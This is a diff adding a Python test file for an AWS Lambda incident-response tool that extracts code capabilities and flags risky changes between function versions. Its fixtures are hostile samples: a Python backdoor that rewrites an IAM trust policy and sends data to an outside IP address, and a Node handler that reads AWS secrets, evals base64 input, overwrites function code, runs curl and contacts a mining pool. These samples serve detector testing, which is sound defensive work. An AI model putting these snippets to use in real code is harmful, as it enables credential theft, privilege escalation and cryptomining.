@@ -1,0 +1,221 @@
+"""Capability extraction (Python ast, JavaScript tree-sitter, binaries, fallback), the
+`capabilities` table, and the LIR-CAP detectors: firing and quiet."""
+
+from __future__ import annotations
+
+import duckdb
+
+from lambda_ir.analyze.capabilities import Parser, extract
+from lambda_ir.analyze.detectors import cap_gained, cap_role_missing, cap_role_unused
+from lambda_ir.evidence import Case
+from lambda_ir.evidence.index import open_index
+from lambda_ir.model import Severity
+from tests.analyze.casebuild import (
+    ACCOUNT,
+    CaseBuilder,
+    function_config,
+    run_detector,
+    zip_bytes,
+)
+
+BACKDOOR_PY = """import json
+import urllib.request
+
+import boto3
+
+iam = boto3.client("iam")
+
+
+def handler(event, context):
+    role = event["detail"]["requestParameters"]["roleName"]
+    iam.update_assume_role_policy(RoleName=role, PolicyDocument=json.dumps({}))
+    urllib.request.urlopen("http://203.0.113.77/collect", data=role.encode())
+"""
+READER_PY = """import boto3
+
+table = boto3.resource("dynamodb").Table("orders")
+ddb = boto3.client("dynamodb")
+
+
+def handler(event, context):
+    item = ddb.get_item(TableName="orders", Key={"id": {"S": event["id"]}})
+    return {"item": item.get("Item")}
+"""
+NODE_V3 = """import { IAMClient, AttachRolePolicyCommand } from "@aws-sdk/client-iam";
+const { execSync } = require("node:child_process");
+const AWS = require("aws-sdk");
+const lam = new AWS.Lambda();
+export const handler = async (event) => {
+  await new IAMClient({}).send(new AttachRolePolicyCommand({ RoleName: event.r }));
+  await lam.updateFunctionCode({ FunctionName: "x" }).promise();
+  execSync(`curl -s ${event.u}`);
+  const secret = process.env["AWS_SECRET_ACCESS_KEY"];
+  eval(Buffer.from(event.p, "base64").toString());
+  require("fs").writeFileSync("/var/task/index.js", "x");
+  return fetch("stratum+tcp://pool.example.org:3333");
+};
+"""
+
+
+def _found(name: str, source: str | bytes) -> set[tuple[str, str, int]]:
+    data = source.encode() if isinstance(source, str) else source
+    result = extract(name, data)
+    assert result is not None
+    return {(c.kind.value, c.value, c.line) for c in result.capabilities}
+
+
+def test_python_calls_destinations_and_lines() -> None:
+    found = _found("app.py", BACKDOOR_PY)
+    assert ("aws-call", "iam:UpdateAssumeRolePolicy", 11) in found
+    assert ("network", "http://203.0.113.77", 12) in found
+    assert not {f for f in found if f[0] in ("exec", "credentials")}
+
+
+def test_python_exec_credentials_dynamic_and_writes() -> None:
+    source = (
+        "import os, subprocess as sp, base64\nfrom os import system as run\n"
+        "sp.check_output(['id'])\nrun('uname -a')\nk = os.environ['AWS_SESSION_TOKEN']\n"
+        "open('/proc/self/environ').read()\nexec(base64.b64decode(k))\n"
+        "open('/opt/x.py', 'w')\nopen('/tmp/fine', 'w')\nsts = boto3.client('sts')\n"
+        "sts.assume_role(RoleArn='a', RoleSessionName='b')\ndata = dict(os.environ)\n"
+    )
+    found = _found("h.py", source)
+    assert ("exec", "subprocess.check_output", 3) in found
+    assert ("exec", "os.system", 4) in found
+    assert ("credentials", "AWS_SESSION_TOKEN", 5) in found
+    assert ("credentials", "/proc/self/environ", 6) in found
+    assert ("dynamic-code", "exec(base64.b64decode)", 7) in found
+    assert ("fs-write", "/opt/x.py", 8) in found
+    assert not any(f[1] == "/tmp/fine" for f in found)
+    assert ("aws-call", "sts:AssumeRole", 11) in found
+    assert ("credentials", "the whole environment (os.environ)", 12) in found
+
+
+def test_javascript_sdk_v2_v3_exec_and_env() -> None:
+    result = extract("index.mjs", NODE_V3.encode())
+    assert result is not None and result.parser is Parser.JAVASCRIPT and result.note is None
+    found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
+    assert ("aws-call", "iam:AttachRolePolicy", 6) in found
+    assert ("aws-call", "lambda:UpdateFunctionCode", 7) in found
+    assert ("exec", "node:child_process.execSync", 8) in found
+    assert ("credentials", "AWS_SECRET_ACCESS_KEY", 9) in found
+    assert ("dynamic-code", "eval(…)", 10) in found
+    assert ("fs-write", "/var/task/index.js", 11) in found
+    assert ("network", "stratum+tcp://pool.example.org:3333", 12) in found
+
+
+def test_broken_and_minified_files_fall_back_and_say_why() -> None:
+    broken_py = extract("broken.py", b"def f(:\n    os.system('id')\n")
+    assert broken_py is not None and broken_py.parser is Parser.FALLBACK
+    assert broken_py.note and "does not parse as Python" in broken_py.note
+    assert ("exec", "os.system", 2) in {(c.kind, c.value, c.line) for c in broken_py.capabilities}
+    broken_js = extract("x.js", b"var a = ;; function ( { 'http://198.51.100.7:8080/p'")
+    assert broken_js is not None and broken_js.parser is Parser.FALLBACK
+    assert broken_js.note and "does not parse as JavaScript" in broken_js.note
+    assert any(c.value == "http://198.51.100.7:8080" for c in broken_js.capabilities)
+    minified = ("var a=1;" * 2000) + 'require("child_process").exec("id");'
+    parsed = extract("bundle.min.js", minified.encode())
+    assert parsed is not None and parsed.parser is Parser.JAVASCRIPT
+    assert any(c.value == "child_process.exec" and c.line == 1 for c in parsed.capabilities)
+
+
+def test_binary_symbols_and_strings() -> None:
+    blob = (
+        b"\x7fELF\x02\x01\x01"
+        + b"\x00" * 9
+        + b"popen\x00execve\x00stratum+tcp://p.example:3333\x00"
+    )
+    result = extract("bin/helper", blob)
+    assert result is not None and result.parser is Parser.BINARY
+    values = {(c.kind.value, c.value) for c in result.capabilities}
+    assert {("exec", "symbol popen"), ("exec", "symbol execve")} <= values
+    assert ("network", "stratum+tcp://p.example:3333") in values
+
+
+def test_benign_reader_and_non_code_files() -> None:
+    assert _found("app.py", READER_PY) == {
+        ("aws-call", "dynamodb:GetItem", 8),
+    }
+    assert extract("logo.png", b"\x89PNG\r\n") is None
+    # Loopback and the Runtime API are not outbound destinations.
+    assert _found("r.py", "URL = 'http://127.0.0.1:9001/2018-06-01/runtime'\n") == set()
+
+
+ROLE_ARN = f"arn:aws:iam::{ACCOUNT}:role/fn-role"
+
+
+def _role(builder: CaseBuilder, statements: list[dict]) -> None:
+    builder.put(
+        f"raw/{ACCOUNT}/global/iam/roles/fn-role/role.json",
+        {"Role": {"RoleName": "fn-role", "Arn": ROLE_ARN}},
+        "role",
+        "iam:GetRole",
+        RoleName="fn-role",
+    )
+    builder.put(
+        f"raw/{ACCOUNT}/global/iam/roles/fn-role/inline.json",
+        {"RoleName": "fn-role", "PolicyName": "p",
+         "PolicyDocument": {"Version": "2012-10-17", "Statement": statements}},
+        "role-policy",
+        "iam:GetRolePolicy",
+        RoleName="fn-role",
+        PolicyName="p",
+    )  # fmt: skip
+
+
+def _function(builder: CaseBuilder, name: str, releases: list[str | bytes]) -> None:
+    configs = []
+    for number, source in enumerate(releases, start=1):
+        blob = zip_bytes({"app.py": source, "README.txt": "docs"})
+        builder.code(blob, name, str(number))
+        configs.append(function_config(name, str(number), code=blob, role=ROLE_ARN))
+    builder.versions(name, configs)
+
+
+def test_capabilities_table_per_version(builder: CaseBuilder) -> None:
+    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    con = open_index(Case.open(builder.root))
+    rows = con.execute(
+        "SELECT version, file, line, kind, value, parser FROM capabilities "
+        "WHERE function_name = 'notifier' ORDER BY version, line"
+    ).fetchall()
+    assert ("1", "app.py", 8, "aws-call", "dynamodb:GetItem", "python-ast") in rows
+    assert ("2", "app.py", 11, "aws-call", "iam:UpdateAssumeRolePolicy", "python-ast") in rows
+    files = con.execute("SELECT file, parser FROM capability_files ORDER BY file").fetchall()
+    assert ("README.txt", "text-patterns") in files and ("app.py", "python-ast") in files
+    assert isinstance(con, duckdb.DuckDBPyConnection)
+
+
+def test_gained_capabilities_fire_naming_lines(builder: CaseBuilder) -> None:
+    _role(builder, [{"Effect": "Allow", "Action": "dynamodb:GetItem", "Resource": "*"}])
+    _function(builder, "notifier", [READER_PY, BACKDOOR_PY])
+    found = _run(builder, cap_gained.DETECTOR)
+    assert len(found) == 1
+    finding = found[0]
+    assert finding.resource.endswith("function:notifier:2") and finding.severity is Severity.HIGH
+    assert "iam:UpdateAssumeRolePolicy (app.py:11)" in finding.summary
+    assert "http://203.0.113.77 (app.py:12)" in finding.summary
+    assert "over version 1" in finding.summary
+    assert {ref.member for ref in finding.evidence} == {"app.py"}
+    missing = _run(builder, cap_role_missing.DETECTOR)
+    assert len(missing) == 1 and "iam:UpdateAssumeRolePolicy" in missing[0].summary
+    assert missing[0].severity is Severity.MEDIUM
+
+
+def test_benign_reader_is_quiet(builder: CaseBuilder) -> None:
+    _role(builder, [{"Effect": "Allow", "Action": ["dynamodb:GetItem"], "Resource": "*"}])
+    _function(builder, "reader", [READER_PY, READER_PY.replace("orders", "orders-v2")])
+    for detector in (cap_gained, cap_role_missing, cap_role_unused):
+        assert _run(builder, detector.DETECTOR) == []
+
+
+def test_first_version_with_iam_write_and_admin_role(builder: CaseBuilder) -> None:
+    _role(builder, [{"Effect": "Allow", "Action": ["*", "iam:PassRole"], "Resource": "*"}])
+    _function(builder, "x7k2q", [BACKDOOR_PY.replace('iam = boto3.client("iam")', "iam = 1")])
+    assert _run(builder, cap_gained.DETECTOR)[0].summary.count("network") == 1
+    unused = _run(builder, cap_role_unused.DETECTOR)
+    assert len(unused) == 1 and "iam:PassRole" in unused[0].summary
+
+
+def _run(builder: CaseBuilder, detector: object) -> list:
+    return run_detector(builder, detector)
